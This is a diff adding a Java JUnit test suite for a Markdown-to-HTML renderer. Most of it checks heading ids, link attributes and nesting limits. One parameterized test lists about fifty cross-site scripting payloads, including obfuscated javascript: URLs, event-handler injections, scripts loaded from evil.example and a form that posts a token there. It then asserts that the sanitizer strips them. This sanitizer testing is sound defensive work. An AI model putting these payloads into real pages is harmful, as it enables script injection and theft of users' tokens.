@@ -1,0 +1,195 @@
+package dev.gavel.sep.render;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.gavel.sep.document.DocumentFixtures;
+import java.util.Locale;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class MarkdownRendererTest {
+    private static String html(String markdown) {
+        return MarkdownRenderer.render(markdown).html();
+    }
+
+    @Test
+    void aDocumentIsDrawn() {
+        String html = html(DocumentFixtures.text("table"));
+        assertThat(html)
+                .contains(
+                        "<h1 id=\"sep-text-sep-42-paging-for-every-list\">",
+                        "<h2 id=\"sep-text-abstract\">Abstract</h2>",
+                        "<td align=\"left\">",
+                        "<code class=\"language-sh\">",
+                        "href=\"https://example.org/paging\"");
+    }
+
+    @Test
+    void tablesStruckWordsAndAddressesAreUnderstood() {
+        assertThat(html("~~no~~ https://example.org")).contains("<del>no</del>", "<a href=\"https://example.org\"");
+        assertThat(html("| a |\n|:-:|\n| b |")).contains("<th align=\"center\">a</th>", "<td align=\"center\">b</td>");
+    }
+
+    @Test
+    void linksLeadAwayWithoutTellingOfUs() {
+        assertThat(html("[a](https://example.org)"))
+                .contains("rel=\"nofollow noopener noreferrer\"")
+                .doesNotContain("target");
+        assertThat(html("<a href=\"https://example.org\" rel=\"opener\" target=\"_blank\">a</a>"))
+                .contains("nofollow")
+                .doesNotContain("\"opener", "target");
+    }
+
+    @Test
+    void idsAndLinksToThemCannotBeThoseOfThePage() {
+        assertThat(html("## Sign out\n\n## Sign out\n\n[there](#sign-out)\n\n<h2 id=\"menu\">x</h2>"))
+                .contains(
+                        "id=\"sep-text-sign-out\"",
+                        "id=\"sep-text-sign-out-1\"",
+                        "href=\"#sep-text-sign-out\"",
+                        "id=\"sep-text-menu\"");
+    }
+
+    @Test
+    void picturesAreLinks() {
+        assertThat(html("![a cat](https://example.org/cat.png)"))
+                .contains("<a href=\"https://example.org/cat.png\"", ">a cat</a>")
+                .doesNotContain("<img");
+        assertThat(html("[![a cat](https://example.org/cat.png)](https://example.org)"))
+                .contains("<a href=\"https://example.org\"", ">a cat</a>")
+                .doesNotContain("<img", "cat.png");
+        assertThat(html("<img src=\"data:image/png;base64,AAAA\" alt=\"a dog\">"))
+                .contains("a dog")
+                .doesNotContain("<img", "data:", "href");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<script>alert(1)</script>",
+                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+                "<scr<script>ipt>alert(1)</scr</script>ipt>",
+                "<img src=x onerror=alert(1)>",
+                "<img src=\"x\" onerror=\"alert(1)\"//",
+                "<svg onload=alert(1)>",
+                "<svg><script>alert(1)</script></svg>",
+                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+                "<body onload=alert(1)>",
+                "<iframe src=\"javascript:alert(1)\"></iframe>",
+                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
+                "<embed src=\"//evil.example/x.swf\">",
+                "<link rel=stylesheet href=//evil.example/x.css>",
+                "<style>@import '//evil.example/x.css';</style>",
+                "<p style=\"background:url(javascript:alert(1))\">x</p>",
+                "<div class=\"menu\" style=\"position:fixed\">x</div>",
+                "<a href=\"javascript:alert(1)\">x</a>",
+                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+                "<a href=\"&#106;avascript:alert(1)\">x</a>",
+                "<a href=\"java\tscript:alert(1)\">x</a>",
+                "<a href=\" javascript:alert(1)\">x</a>",
+                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
+                "<a href=\"vbscript:msgbox(1)\">x</a>",
+                "<a href=x onclick=alert(1)>x</a>",
+                "<a href=\"https://x\" onmouseover=\"alert(1)\">x</a>",
+                "[x](javascript:alert(1))",
+                "[x](JAVASCRIPT:alert(1))",
+                "[x](javascript&colon;alert(1))",
+                "[x](&#x6A;avascript:alert(1))",
+                "[x](data:text/html,<script>alert(1)</script>)",
+                "[x](vbscript:msgbox(1))",
+                "[x](<javascript:alert(1)>)",
+                "[x]\n\n[x]: javascript:alert(1)",
+                "![x](javascript:alert(1))",
+                "![x\" onerror=\"alert(1)](https://example.org/x)",
+                "<javascript:alert(1)>",
+                "<form action=\"https://evil.example\"><input name=token><button>x</button></form>",
+                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+                "<base href=\"https://evil.example/\">",
+                "<details open ontoggle=alert(1)>x</details>",
+                "<video><source onerror=alert(1)></video>",
+                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+                "<template><script>alert(1)</script></template>",
+                "<textarea><script>alert(1)</script></textarea>",
+                "<title><img src=x onerror=alert(1)></title>",
+                "<!--><img src=x onerror=alert(1)>-->",
+                "<![CDATA[<script>alert(1)</script>]]>",
+                "<?xml version=\"1.0\"?><script>alert(1)</script>",
+                "```x\" onmouseover=\"alert(1)\ncode\n```",
+                "# x {#a\" onclick=\"alert(1)}",
+                "`<script>alert(1)</script>`",
+                "&lt;script&gt;alert(1)&lt;/script&gt;",
+                "<b hx-get=\"/tokens\" hx-trigger=\"load\">x</b>",
+                "<div data-hx-post=\"/tokens\">x</div>",
+            })
+    void nothingInADocumentIsRunOrLoaded(String vector) {
+        for (String markdown : new String[] {vector, "words " + vector + " words", "- " + vector, "> " + vector}) {
+            String html = html(markdown).toLowerCase(Locale.ROOT);
+            String tags = html.replaceAll(">[^<]*", ">").replaceAll("^[^<]*", "");
+            assertThat(tags)
+                    .as(markdown)
+                    .doesNotContain(
+                            "<script",
+                            "<style",
+                            "<svg",
+                            "<math",
+                            "<img",
+                            "<iframe",
+                            "<object",
+                            "<embed",
+                            "<link",
+                            "<form",
+                            "<input",
+                            "<button",
+                            "<meta",
+                            "<base",
+                            "<video",
+                            "<template",
+                            "<textarea",
+                            "<body")
+                    .doesNotContain("javascript:", "vbscript:", "data:", "data-", "style=", "hx-", "evil.example")
+                    .doesNotContainPattern("\\son[a-z]+\\s*=");
+        }
+    }
+
+    @Test
+    void anAddressOnAnotherSiteMayOnlyBeFollowed() {
+        assertThat(html("<a href=\"//evil.example/\">x</a>")).contains("rel=\"nofollow noopener noreferrer\"");
+    }
+
+    @Test
+    void whatIsNestedTooDeepIsShownAllTheSame() {
+        assertThat(html(">".repeat(50_000) + " words")).contains("words");
+        assertThat(html("- ".repeat(50_000) + "words")).contains("words");
+        assertThat(html("*a **a ".repeat(20_000) + "words")).contains("words");
+        assertThat(html("[".repeat(50_000) + "words")).contains("words");
+        assertThat(html("![".repeat(20_000) + "words" + "](x)".repeat(20_000))).contains("words");
+    }
+
+    @Test
+    void elementsNestedTooDeepAreLeftOut() {
+        assertThat(html("<div>".repeat(50_000) + "words")).hasSizeLessThan(10_000);
+    }
+
+    @Test
+    void frontMatterIsShownAsItIsWritten() {
+        assertThat(html(DocumentFixtures.text("front")))
+                .contains("<pre><code class=\"language-yaml\">SEP: 42\n")
+                .contains("<h2 id=\"sep-text-abstract\">");
+    }
+
+    @Test
+    void headingsAreFoundWithWhereTheyAreOnThePage() {
+        RenderedDocument renderedDocument =
+                MarkdownRenderer.renderWithHeadings("# One\n\n## Two `three`\n\ntext\n\n## Two three\n");
+
+        assertThat(renderedDocument.headings())
+                .containsExactly(
+                        new RenderedDocument.Heading(1, "One", "sep-text-one"),
+                        new RenderedDocument.Heading(2, "Two three", "sep-text-two-three"),
+                        new RenderedDocument.Heading(2, "Two three", "sep-text-two-three-1"));
+        renderedDocument
+                .headings()
+                .forEach(heading -> assertThat(renderedDocument.html().html()).contains("id=\"" + heading.id() + "\""));
+    }
+}
